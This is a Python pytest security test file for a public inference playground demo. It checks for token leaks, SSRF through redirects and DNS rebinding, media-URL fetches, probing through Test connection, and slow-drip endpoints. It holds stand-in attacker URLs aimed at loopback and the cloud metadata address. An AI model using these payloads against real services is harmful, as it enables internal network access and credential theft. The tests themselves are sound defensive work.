"""The attacks on a public demo that need hosts on public addresses: the host's token sent to a
Space URL anyone can create, redirects and DNS rebinding into private addresses, media URLs in
replies, Test connection as a probe. Each was an exploit of the public demo; the internal
services (127.0.0.1, 169.254.169.254) must never see a request."""

from __future__ import annotations

import re
from typing import Any

import httpx
import pytest

from playground.client.network import public_transport
from playground.tasks import TASKS
from playground.ui.settings import Settings
from playground.ui.target import ClientFactory
from tests.security.harness import (
    HOST_TOKEN,
    VISITOR_TOKEN,
    Shown,
    classify,
    leaks,
    public_settings,
    running,
    target,
    task_args,
    visitor,
)
from tests.security.netns.helpers import Certificates, Resolver, Servers

ROUTER_URL = "https://router.huggingface.co"
CHAT = TASKS["chat-completion"]


def app_settings(public: bool, **overrides: Any) -> Settings:
    return public_settings(public=public, hf_endpoint=ROUTER_URL, max_timeout=3, **overrides)


def factory(settings: Settings, certificates: Certificates) -> ClientFactory:
    """The app's own client factory, trusting the test CA (as real hosts trust real CAs)."""
    context = certificates.client_context()
    # No keep-alive: connections end with each test, before the servers do.
    limits = httpx.Limits(max_keepalive_connections=0)
    plain = httpx.AsyncHTTPTransport(verify=context, limits=limits)
    guarded = (
        public_transport(is_async=True, verify=context, limits=limits) if settings.public else None
    )
    return ClientFactory(settings, None, transport=plain, remote_transport=guarded)


def authorizations(net: Servers, base: str) -> list[str | None]:
    return [request["headers"].get("authorization") for request in net.requests(base)]


def untouched(net: Servers) -> bool:
    return net.requests(net.internal) == [] and net.requests(net.metadata) == []


def chat(client: Any, model: str, **bar: Any) -> str:
    """The chat tab through its API; returns everything it showed, as text."""
    params = [param.value if param.value is not None else "" for param in CHAT.params]
    result = client.predict(
        *target(**bar), model, "Hello", [], "", *params, "", api_name="/chat_completion"
    )
    return repr(result)


@pytest.mark.parametrize("public", [True, False])
def test_the_host_token_never_reaches_a_space_anyone_can_create(
    net: Servers, certificates: Certificates, public: bool
) -> None:
    settings = app_settings(public)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        shown = classify(client, "https://evil.hf.space/hostile/echo")
        chatted = chat(client, "https://evil.hf.space/hostile/echo/v1")
    assert not leaks(shown.everything + chatted)
    assert HOST_TOKEN not in repr(net.requests(net.attacker_tls))
    if public:  # refused before sending: the visitor brought no token of their own
        assert "paste your token" in shown.status
        assert net.requests(net.attacker_tls) == []
    else:  # sent, but without the host's token (it is bound to the router)
        assert "no authorization header" in shown.everything
        assert set(authorizations(net, net.attacker_tls)) == {None}


def test_a_visitors_own_token_does_not_reach_a_space_either(
    net: Servers, certificates: Certificates
) -> None:
    settings = app_settings(True)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        shown = classify(client, "https://evil.hf.space/hostile/echo", token=VISITOR_TOKEN)
        on_router = classify(client, "fake/text-classification", token=VISITOR_TOKEN)
    assert "no authorization header" in shown.everything  # called, token kept back
    assert "status-ok" in on_router.status
    assert authorizations(net, net.router) == [f"Bearer {VISITOR_TOKEN}"]
    assert set(authorizations(net, net.attacker_tls)) == {None}


def test_a_public_endpoint_works_in_public_mode(net: Servers, certificates: Certificates) -> None:
    settings = app_settings(True)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        shown = classify(
            client, "", kind="custom", url="http://api.example/models/fake/text-classification"
        )
        host = classify(client, "fake/text-classification")
    assert "status-ok" in shown.status, shown.status
    assert "status-ok" in host.status, host.status
    assert authorizations(net, net.router) == [f"Bearer {HOST_TOKEN}"]
    assert set(authorizations(net, net.public)) == {None}


@pytest.mark.parametrize(
    "inside",
    ["http://127.0.0.1:{port}/models/fake/text-classification", "http://169.254.169.254/latest"],
)
def test_a_redirect_into_private_addresses_is_refused(
    net: Servers, certificates: Certificates, inside: str
) -> None:
    port = net.internal.rsplit(":", 1)[1]
    redirect = f"http://attacker.example/hostile/redirect?to={inside.format(port=port)}"
    settings = app_settings(True)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        shown = classify(client, "", kind="custom", url=redirect)
    assert "Refused to connect" in shown.status, shown.status
    assert re.search(r"a (loopback|link-local) address", shown.status)
    assert len(net.requests(net.attacker)) == 1  # the first hop was made
    assert untouched(net)


def test_dns_rebinding_cannot_reach_loopback(
    net: Servers, certificates: Certificates, dns: Resolver
) -> None:
    # Public for whoever asks first (a check before the call), loopback for whoever asks next.
    dns.answer("rebind.example", [net_address(net.attacker)], ["127.0.0.1"])
    port = net.internal.rsplit(":", 1)[1]
    settings = app_settings(True)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        model = f"http://rebind.example:{port}/models/fake/text-classification"
        shown = classify(client, "", kind="custom", url=model)
    assert "status-error" in shown.status
    assert dns.asked["rebind.example"] >= 2  # it was asked again when connecting
    assert untouched(net)


def test_a_media_url_in_a_reply_is_checked_and_shown(
    net: Servers, certificates: Certificates
) -> None:
    port = net.internal.rsplit(":", 1)[1]
    model = f"http://attacker.example/hostile/media?to=http://127.0.0.1:{port}/files/red.png"
    settings = app_settings(True)
    spec = TASKS["text-to-image"]
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        arguments = task_args(spec, "", {"prompt": "a cat"}, kind="custom", url=model)
        result = client.predict(*arguments, api_name="/text_to_image")
    shown = Shown(list(result), spec)
    assert "Refused to connect" in shown.status, shown.status
    assert "/files/red.png" in repr(shown.inspector)  # the media fetch is in the inspector
    assert untouched(net)


def test_test_connection_cannot_probe_private_addresses(
    net: Servers, certificates: Certificates
) -> None:
    port = net.internal.rsplit(":", 1)[1]
    redirect = f"http://attacker.example/hostile/redirect?to=http://127.0.0.1:{port}/"
    settings = app_settings(True)
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        report = client.predict(*target("custom", url=redirect), api_name="/test_connection")
        direct = client.predict(
            *target("custom", url=f"http://127.0.0.1:{port}"), api_name="/test_connection"
        )
    assert "Refused to connect" in report, report
    assert "private address" in direct or "Refused" in direct, direct
    assert untouched(net)


def test_a_dripping_public_endpoint_is_cut_at_the_capped_deadline(
    net: Servers, certificates: Certificates
) -> None:
    settings = app_settings(True)
    model = "http://attacker.example/hostile/drip?interval=1"
    with running(settings, factory(settings, certificates)) as url, visitor(url) as client:
        job = client.submit(
            *target("custom", url=model, timeout=1e9), "", "x", "", None, "",
            api_name="/text_classification",
        )  # fmt: skip
        status = job.result(timeout=60)[2]
    assert re.search(r"stopped after [34] s, at its deadline", status), status


def net_address(base: str) -> str:
    return httpx.URL(base).host
